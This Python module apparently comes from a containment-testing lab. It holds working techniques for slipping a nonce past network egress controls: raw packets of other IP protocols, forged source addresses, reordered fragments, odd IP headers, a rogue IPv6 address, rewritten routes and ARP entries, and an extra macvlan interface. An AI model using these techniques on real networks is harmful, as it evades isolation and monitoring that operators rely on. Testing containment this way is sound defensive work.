"""Attempts below TCP and UDP: other IP protocols, fragments, forged senders, unexpected IPv6. They need raw sockets."""

from __future__ import annotations

import socket
import struct
import subprocess
import time

from containment_lab.attacks.raw_ip import EVIL, MORE, build_datagram, build_packet, compute_checksum, send_packets
from containment_lab.attacks.task import Attempt, Technique


def send_ip_protocol(attempt: Attempt) -> None:
    """Send the nonce in packets of any IP protocol by number (1 is an echo request)."""
    number = attempt.parse_number("number", 47)
    payload = attempt.nonce.encode()
    if number == 1:
        payload = _build_icmp(attempt.parse_number("icmp", 8), attempt.parse_number("code", 0), payload)
    elif number == 47:
        payload = struct.pack("!HH", 0, 0x0800) + payload
    elif number == 132:
        payload = _build_sctp(payload)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as handle:
        for _ in range(2):
            handle.sendto(payload, (attempt.resolve_target(), 0))
            time.sleep(0.2)


def send_forged_source(attempt: Attempt) -> None:
    """Send a datagram with a forged source address."""
    source, where = _find_peer(attempt) if attempt.get_option("as") == "peer" else attempt.get_option("as"), attempt.resolve_target()
    data = build_datagram(attempt.nonce.encode(), attempt.parse_number("port", 443))
    for _ in range(2):
        send_packets(where, build_packet(where, 17, data, source=source, number=1))
        time.sleep(0.2)


def send_odd_header(attempt: Attempt) -> None:
    """Send a datagram with an unusual IP header: options, the reserved flag, a service class, a low TTL."""
    where = attempt.resolve_target()
    data = build_datagram(attempt.nonce.encode(), attempt.parse_number("port", 443), 40002)
    flags = EVIL if attempt.get_option("flag") == "evil" else 0
    options = bytes.fromhex(attempt.get_option("options").replace("ATTACKER", socket.inet_aton(attempt.address).hex()))
    for number in (78, 79):
        send_packets(
            where,
            build_packet(
                where,
                17,
                data,
                number=number,
                flags=flags,
                ttl=attempt.parse_number("ttl", 64),
                tos=attempt.parse_number("tos", 0),
                options=options,
            ),
        )
        time.sleep(0.2)


def _find_peer(attempt: Attempt) -> str:
    """Return another address in the host's subnet."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.connect((attempt.resolver, 53))
        return str(handle.getsockname()[0]).rpartition(".")[0] + ".77"


def send_fragments(attempt: Attempt) -> None:
    """Send a datagram in IP fragments of eight bytes; `reversed`: the last one first."""
    where = attempt.resolve_target()
    data = build_datagram(attempt.nonce.encode().ljust(64, b"."), attempt.parse_number("port", 443), 40001)
    pieces = [
        build_packet(where, 17, data[at : at + 8], number=77, flags=(0 if at + 8 >= len(data) else MORE) | at // 8)
        for at in range(0, len(data), 8)
    ]
    for _ in range(2):
        send_packets(where, *(reversed(pieces) if "reversed" in attempt.options else pieces))
        time.sleep(0.2)


def send_over_ipv6(attempt: Attempt) -> None:
    """Add an arbitrary IPv6 address to the interface, and send the nonce over IPv6."""
    own = f"2001:db8:42::{int(attempt.address.rpartition('.')[2]):x}"
    _run_ip(f"-6 address replace {own}/128 dev eth0 nodad")
    _run_ip("-6 neigh replace fe80::1 lladdr 02:ff:00:00:00:01 dev eth0 nud permanent")
    _run_ip("-6 route replace default via fe80::1 dev eth0")
    where = "2001:db8:66::66"
    attempt.marks += [where, own]
    if attempt.get_option("via", "udp") == "icmp":
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as handle:
            handle.bind((own, 0))
            handle.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + attempt.nonce.encode(), (where, 0, 0, 0))
        return
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as handle:
        handle.bind((own, 0))
        for _ in range(2):
            handle.sendto(attempt.nonce.encode(), (where, attempt.parse_number("port", 443)))
            time.sleep(0.2)


def send_rerouted(attempt: Attempt) -> None:
    """Send the nonce through another next hop: the VPC router in the gateway's subnet."""
    where = attempt.resolve_target()
    hop = attempt.gateway.rpartition(".")[0] + ".1"
    _run_ip(f"route replace {hop} dev eth0 scope link")
    _run_ip(f"neigh replace {hop} lladdr 02:ff:00:00:00:01 dev eth0")
    _run_ip(f"route replace {where}/32 via {hop} dev eth0")
    with socket.create_connection((where, 443), timeout=attempt.timeout) as handle:
        handle.sendall(attempt.nonce.encode() + b"\r\n\r\n")
        time.sleep(1)


def send_from_second_interface(attempt: Attempt) -> None:
    """Add another interface to the host's link, with an unassigned address, and send the nonce from it."""
    link, where = f"mv{attempt.address.rpartition('.')[2]}", attempt.resolve_target()
    own = attempt.gateway.rpartition(".")[0] + ".77"
    _run_ip(f"link add {link} link eth0 type macvlan mode bridge")
    try:
        _run_ip(f"address replace {own}/32 dev {link}")
        _run_ip(f"link set {link} up")
        _run_ip(f"neigh replace 169.254.1.1 lladdr 02:ff:00:00:00:01 dev {link} nud permanent")
        _run_ip(f"route replace 169.254.1.1 dev {link} scope link")
        _run_ip(f"route replace {where}/32 via 169.254.1.1 dev {link} src {own}")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            for _ in range(2):
                handle.sendto(attempt.nonce.encode(), (where, 443))
                time.sleep(0.2)
    finally:
        subprocess.run(["ip", "link", "delete", link], check=False, capture_output=True)


def _run_ip(words: str) -> None:
    subprocess.run(["ip", *words.split()], check=True, capture_output=True)


def _build_icmp(kind: int, code: int, payload: bytes) -> bytes:
    whole = struct.pack("!BBHHH", kind, code, 0, 1, 1) + payload
    return whole[:2] + struct.pack("!H", compute_checksum(whole)) + whole[4:]


def _build_sctp(payload: bytes) -> bytes:
    """Return an SCTP INIT with the payload in an unknown parameter."""
    parameter = struct.pack("!HH", 0xC0FE, 4 + len(payload)) + payload + b"\0" * (-len(payload) % 4)
    chunk = struct.pack("!BBHIIHHI", 1, 0, 20 + len(parameter), 7, 65536, 1, 1, 1) + parameter
    head = struct.pack("!HHI", 40003, 443, 0)
    return head + struct.pack("<I", _compute_crc32c(head + b"\0" * 4 + chunk)) + chunk


def _compute_crc32c(data: bytes) -> int:
    value = 0xFFFFFFFF
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
    return value ^ 0xFFFFFFFF


TECHNIQUES: dict[str, Technique] = {
    "protocol": send_ip_protocol,
    "forged": send_forged_source,
    "fragments": send_fragments,
    "odd-header": send_odd_header,
    "six": send_over_ipv6,
    "rerouted": send_rerouted,
    "second-interface": send_from_second_interface,
}
